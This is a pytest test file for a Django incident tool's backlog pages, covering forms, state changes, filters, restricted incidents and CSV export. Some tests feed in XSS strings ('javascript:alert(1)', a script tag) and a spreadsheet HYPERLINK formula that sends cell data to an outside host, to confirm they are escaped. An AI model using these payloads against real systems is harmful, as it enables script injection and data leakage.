"""The pages of the backlog: of an incident, of an item, across incidents, and as CSV."""

import csv
from datetime import date, timedelta
from io import StringIO
from typing import Any
from uuid import uuid4

import pytest
from django.test import Client

from incidents.models import Incident, Person
from retros.actions import backlog
from retros.actions.backlog import Work
from retros.models import BacklogItem
from retros.templatetags.backlog import backlog_state, due, tracker_name
from tests.counting import queries
from tests.factories import START, SurfaceFactory, declared
from warroom.kernel import clock

TODAY = date(2026, 3, 5)
NOW = START + timedelta(hours=1)
TITLE = "Edge nodes honour key-set expiry"
TRACKER = "https://tracker.example.org/browse/EDGE-540"


# The test client reads at once what a server streams.
pytestmark = pytest.mark.filterwarnings("ignore:StreamingHttpResponse must consume")


@pytest.fixture(autouse=True)
def _today(db: None) -> Any:
    with clock.at(NOW):
        yield


@pytest.fixture
def signed(client: Client, commander: Person) -> Client:
    client.force_login(commander)
    return client


def noted(incident: Incident, title: str = TITLE, days: int | None = 1, **other: Any) -> Any:
    """Due so many days from today, noted long before."""
    due_on = TODAY + timedelta(days=days) if days is not None else None
    work = Work(**({"title": title, "due_on": due_on} | other))
    actor = incident.declared_by.as_actor()
    return backlog.add(actor, incident.pk, work, now=NOW - timedelta(days=300))


def shown(client: Client, query: str = "") -> list[str]:
    """The titles on the page across incidents."""
    return [item.title for item in client.get(f"/backlog/{query}").context["page"]]


def read(client: Client, query: str = "") -> list[dict[str, str]]:
    answer = client.get(f"/backlog/csv/{query}")
    return list(csv.DictReader(StringIO(b"".join(answer).decode(), newline="")))


def test_an_item_is_added_by_the_form_of_its_incident(
    signed: Client, incident: Incident, deputy: Person
) -> None:
    typed = {
        "title": TITLE,
        "detail": "The pin goes as well.",
        "owner": deputy.pk,
        "due_on": "2026-03-12",
        "tracker": TRACKER,
        "once": uuid4(),
    }

    answer = signed.post(f"/INC-{incident.pk}/backlog/", typed)
    again = signed.post(f"/INC-{incident.pk}/backlog/", typed)

    item = BacklogItem.objects.get()
    assert (answer.status_code, answer["Location"]) == (302, f"/INC-{incident.pk}/HARD-{item.pk}/")
    assert (again.status_code, again["Location"]) == (302, f"/INC-{incident.pk}/HARD-{item.pk}/")
    assert (item.title, item.owner, item.due_on) == (TITLE, deputy, date(2026, 3, 12))
    page = signed.get(answer["Location"]).content.decode()
    assert f'<a href="{TRACKER}" rel="noreferrer">' in page
    assert "The pin goes as well." in page


def test_a_refused_form_keeps_what_was_typed(signed: Client, incident: Incident) -> None:
    typed = {"title": "n/a", "due_on": "2026-03-01", "tracker": "javascript:alert(1)"}

    answer = signed.post(f"/INC-{incident.pk}/backlog/", typed)

    text = answer.content.decode()
    assert answer.status_code == 422
    for code in ("B-TITLE", "B-DUE", "B-TRACKER"):
        assert f"<code>{code}</code>" in text
    assert 'value="2026-03-01"' in text
    assert 'href="javascript:' not in text


def test_the_form_of_an_item_says_what_stands_and_changes_it(
    signed: Client, incident: Incident, deputy: Person
) -> None:
    item = noted(incident, owner=deputy, tracker=TRACKER)
    path = item.get_absolute_url()
    form = signed.get(path).context["form"]
    typed = {name: form[name].value() for name in form.fields}

    same = signed.post(path, typed)
    answer = signed.post(path, typed | {"due_on": "2026-03-30"})

    item.refresh_from_db()
    assert (same.status_code, answer.status_code) == (422, 302)
    assert "B-SAME" in same.content.decode()
    assert (item.due_on, item.owner, item.tracker) == (date(2026, 3, 30), deputy, TRACKER)


def test_the_steps_of_an_item(signed: Client, incident: Incident) -> None:
    item = noted(incident)
    path, seen = item.get_absolute_url(), []
    steps = (
        ("begin", {}),
        ("done", {}),
        ("reopen", {"reason": "The pin is back"}),
        ("drop", {"reason": "HARD-119 covers it"}),
    )
    for name, typed in steps:
        asked = signed.get(f"{path}{name}/").status_code
        answer = signed.post(f"{path}{name}/", {"once": uuid4()} | typed)
        item.refresh_from_db()
        seen.append((asked, answer.status_code, answer["Location"], item.state))

    assert seen == [(200, 302, path, state) for state in ("started", "done", "open", "dropped")]
    assert "HARD-119 covers it" in signed.get(path).content.decode()


def test_a_step_that_may_not_be_taken_leads_back_or_is_refused(
    signed: Client, incident: Incident
) -> None:
    path = noted(incident).get_absolute_url()

    asked, sent = signed.get(f"{path}reopen/"), signed.post(f"{path}reopen/", {"reason": "Why not"})

    assert (asked.status_code, asked["Location"]) == (302, path)
    assert sent.status_code == 422
    assert "B-STATE" in sent.content.decode()


def test_a_dropped_item_offers_only_to_open_it_again(signed: Client, incident: Incident) -> None:
    item = noted(incident)
    actor = incident.declared_by.as_actor()
    backlog.drop(actor, incident.pk, item.pk, reason="Covered elsewhere", now=NOW)

    context = signed.get(item.get_absolute_url()).context

    assert [name for name, _ in context["steps"]] == ["reopen"]
    assert not context["may_change"]


@pytest.mark.parametrize("path", ["/backlog/", "/backlog/csv/", "{item}", "{item}drop/"])
def test_who_is_no_responder_opens_none_of_it(
    client: Client, incident: Incident, stakeholder: Person, path: str
) -> None:
    client.force_login(stakeholder)

    answer = client.get(path.replace("{item}", noted(incident).get_absolute_url()))

    assert answer.status_code == 403


def test_an_item_is_found_only_in_its_own_incident(
    signed: Client, incident: Incident, commander: Person
) -> None:
    item = noted(incident)
    other = declared(commander, title="Another")

    assert signed.get(f"/INC-{other.pk}/HARD-{item.pk}/").status_code == 404
    assert signed.post(f"/INC-{other.pk}/HARD-{item.pk}/done/").status_code == 404


def test_across_incidents_the_most_urgent_comes_first(
    signed: Client, incident: Incident, commander: Person
) -> None:
    other = declared(commander, title="Another")
    noted(incident, "No day", None)
    noted(incident, "Next month", 30)
    noted(other, "Late", -2)
    noted(other, "Today", 0)

    text = signed.get("/backlog/").content.decode()

    assert shown(signed) == ["Late", "Today", "Next month", "No day"]
    assert "4 open, 1 overdue, 0 done since January." in text
    assert '<span class="is-late">2 days late</span>' in text
    assert '<span class="quiet">today</span>' in text


@pytest.mark.parametrize(
    ("status", "words"), [("active", "No date: stops closing"), ("watching", "No date")]
)
def test_what_has_no_day_stops_a_closing_that_is_ahead(
    incident: Incident, status: str, words: str
) -> None:
    item = noted(incident, days=None)
    item.incident.status = status

    assert due(item, TODAY) == f'<span class="is-unmet">{words}</span>'


@pytest.mark.parametrize(
    ("days", "owned", "state", "words"),
    [
        (0, True, "open", "Open"),
        (1, True, "started", "Started"),
        (-1, True, "started", "Overdue"),
        (-1, False, "open", "Overdue"),
        (None, False, "open", "Needs an owner"),
        (None, True, "started", "Needs a date"),
        (-1, False, "done", "Done"),
        (None, False, "dropped", "Dropped"),
    ],
)
def test_the_chip_says_what_counts_most(
    incident: Incident, commander: Person, days: int | None, owned: bool, state: str, words: str
) -> None:
    item = noted(incident, days=days, owner=commander if owned else None)
    item.state = state

    assert f"</svg>{words}</span>" in backlog_state(item, TODAY)


@pytest.mark.parametrize(
    ("address", "name"),
    [
        (TRACKER, "EDGE-540"),
        ("https://tracker.example.org/OPS-12/?view=all#top", "OPS-12"),
        ("https://tracker.example.org", "tracker.example.org"),
        ("https://tracker.example.org/%3Cb%3E", "<b>"),
        (f"https://tracker.example.org/{'x' * 60}", f"{'x' * 39}…"),
    ],
)
def test_a_tracker_is_called_by_the_end_of_its_address(address: str, name: str) -> None:
    assert tracker_name(address) == name


@pytest.fixture
def several(incident: Incident, commander: Person, deputy: Person) -> dict[str, BacklogItem]:
    """One of each kind: in INC of severity 1 on sign-in, the last of severity 3 elsewhere."""
    actor = commander.as_actor()
    surface = SurfaceFactory(name="Sign-in"), SurfaceFactory(name="Gateway")
    incident.surfaces.set(surface)
    minor = declared(commander, title="Slow dashboard", severity="3")
    found = {
        "mine": noted(incident, "Mine", 5, owner=commander, detail="Queue age"),
        "late": noted(incident, "Late", -5, owner=deputy, tracker=TRACKER),
        "begun": noted(incident, "Begun", 6, owner=deputy),
        "orphan": noted(incident, "Orphan", 7),
        "done": noted(incident, "Done", -9, owner=deputy),
        "dropped": noted(incident, "Dropped", -9, owner=deputy),
        "minor": noted(minor, "Minor", 8, owner=deputy),
    }
    backlog.begin(actor, incident.pk, found["begun"].pk, now=NOW)
    backlog.done(actor, incident.pk, found["done"].pk, now=NOW)
    backlog.drop(actor, incident.pk, found["dropped"].pk, reason="Covered elsewhere", now=NOW)
    return found


@pytest.mark.parametrize(
    ("query", "titles"),
    [
        ("", ["Late", "Mine", "Begun", "Orphan", "Minor"]),
        ("?state=open", ["Late", "Mine", "Orphan", "Minor"]),
        ("?state=started", ["Begun"]),
        ("?state=done", ["Done"]),
        ("?state=dropped&state=started", ["Begun", "Dropped"]),
        ("?state=nonsense", ["Late", "Mine", "Begun", "Orphan", "Minor"]),
        ("?due=late", ["Late"]),
        ("?due=late&state=done", []),
        ("?mine=1", ["Mine"]),
        ("?owner=nobody", ["Orphan"]),
        ("?owner={deputy}", ["Late", "Begun", "Minor"]),
        ("?owner={deputy}&mine=1", []),
        ("?severity=3", ["Minor"]),
        ("?surface=sign-in", ["Late", "Mine", "Begun", "Orphan"]),
        ("?q=queue AGE", ["Mine"]),
        ("?q=EDGE-540", ["Late"]),
        ("?q=hard-{orphan}", ["Orphan"]),
        ("?q=inc-{minor}", ["Minor"]),
        ("?q=%25", []),
    ],
)
def test_the_filter(
    signed: Client,
    several: dict[str, BacklogItem],
    deputy: Person,
    query: str,
    titles: list[str],
) -> None:
    values = {"deputy": deputy.pk, "orphan": several["orphan"].pk}
    query = query.format(minor=several["minor"].incident_id, **values)

    assert shown(signed, query) == titles
    assert [row["title"] for row in read(signed, query)] == titles


def test_the_page_keeps_its_filter_and_offers_it_as_csv(
    signed: Client, several: dict[str, BacklogItem], deputy: Person
) -> None:
    context_and_text = signed.get(f"/backlog/?owner={deputy.pk}&state=done&q=Done&severity=1")

    text = context_and_text.content.decode()
    assert (
        f'href="/backlog/csv/?owner={deputy.pk}&amp;state=done&amp;q=Done&amp;severity=1"' in text
    )
    assert f'<option value="{deputy.pk}" selected>' in text
    assert '<input type="checkbox" name="state" value="done" checked>' in text
    assert '<input type="checkbox" name="state" value="open">' in text


def test_items_of_a_restricted_incident_are_for_who_may_know_of_it(
    client: Client, commander: Person, stranger: Person, deputy: Person, admin: Person
) -> None:
    secret = declared(commander, restricted=True, participants=(deputy,))
    item = noted(secret, "Close the leak", -1, owner=commander)
    seen = {}
    for person in (commander, deputy, admin, stranger):
        client.force_login(person)
        page = client.get("/backlog/")
        seen[str(person)] = (
            shown(client),
            len(read(client)),
            page.context["counts"]["overdue"],
            str(commander) in {str(one) for one in page.context["owners"]},
            secret in page.context["newest"],
            client.get(item.get_absolute_url()).status_code,
            client.get(f"/backlog/add/?incident={secret.pk}").status_code,
        )

    knows = (["Close the leak"], 1, 1, True, True, 200, 302)
    assert seen == {
        "Commander": knows,
        "Deputy": knows,
        "Admin": knows,
        "Stranger": ([], 0, 0, False, False, 404, 404),
    }


def test_pages_are_windows(signed: Client, incident: Incident) -> None:
    for number in range(60):
        noted(incident, f"Item {number}", number)

    first, second = signed.get("/backlog/"), signed.get("/backlog/?page=2")

    assert [len(one.context["page"]) for one in (first, second)] == [30, 30]
    assert "30 of 60 shown" in first.content.decode()
    assert [len(signed.get(f"/INC-{incident.pk}/backlog/").context["page"])] == [30]


@pytest.mark.parametrize(
    ("path", "most"), [("/backlog/", 14), ("/backlog/csv/", 6), ("{room}backlog/", 25)]
)
def test_it_is_asked_as_often_for_sixty_as_for_three(
    signed: Client, incident: Incident, commander: Person, deputy: Person, path: str, most: int
) -> None:
    path = path.replace("{room}", incident.get_absolute_url())
    incidents = [incident, *(declared(commander, title=f"Another {n}") for n in range(4))]
    asked = []
    for several in (range(3), range(3, 60)):
        for number in several:
            owner = deputy if number % 2 else commander
            noted(incidents[number % 5], f"Item {number}", number, owner=owner)
        with queries() as found:
            assert b"".join(signed.get(path)).count(b"Item ") > 0
        asked.append(len(found))

    assert asked[0] == asked[1] <= most


def test_the_csv_says_everything_and_fools_no_spreadsheet(
    signed: Client, incident: Incident, commander: Person
) -> None:
    bad = '=HYPERLINK("https://example.org/?"&A1;"Open")'
    item = noted(incident, bad, 2, owner=commander, tracker=TRACKER, detail="+1\n-2")
    noted(incident, "@SUM(A1)", 3)

    answer = signed.get("/backlog/csv/")
    first, second = read(signed)

    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="backlog-2026-03-05.csv"'
    assert first == {
        "item": item.reference,
        "title": f"'{bad}",
        "detail": "'+1\n-2",
        "incident": incident.reference,
        "incident_title": incident.title,
        "severity": "SEV-1",
        "owner": str(commander),
        "due_on": "2026-03-07",
        "state": "open",
        "tracker": TRACKER,
        "reason": "",
        "created_at": "2025-05-09T15:00:00+00:00",
        "created_by": str(commander),
        "closed_at": "",
    }
    assert second["title"] == "'@SUM(A1)"


def test_a_new_item_begins_with_its_incident(signed: Client, incident: Incident) -> None:
    answer = signed.get(f"/backlog/add/?incident={incident.pk}")

    assert (answer.status_code, answer["Location"]) == (302, f"/INC-{incident.pk}/backlog/")


def test_what_is_typed_is_text(signed: Client, incident: Incident) -> None:
    item = noted(incident, "<b>Bold</b>", owner=None, detail="<script>alert(1)</script>")

    for path in ("/backlog/", f"/INC-{incident.pk}/backlog/", item.get_absolute_url()):
        text = signed.get(path).content.decode()
        assert "&lt;b&gt;Bold&lt;/b&gt;" in text
        assert "<b>Bold" not in text
        assert "<script>alert" not in text


def test_the_room_and_the_nav_lead_there(signed: Client, incident: Incident) -> None:
    text = signed.get(incident.get_absolute_url()).content.decode()

    assert text.count(f'href="/INC-{incident.pk}/backlog/"') >= 2
    assert 'href="/backlog/"' in text
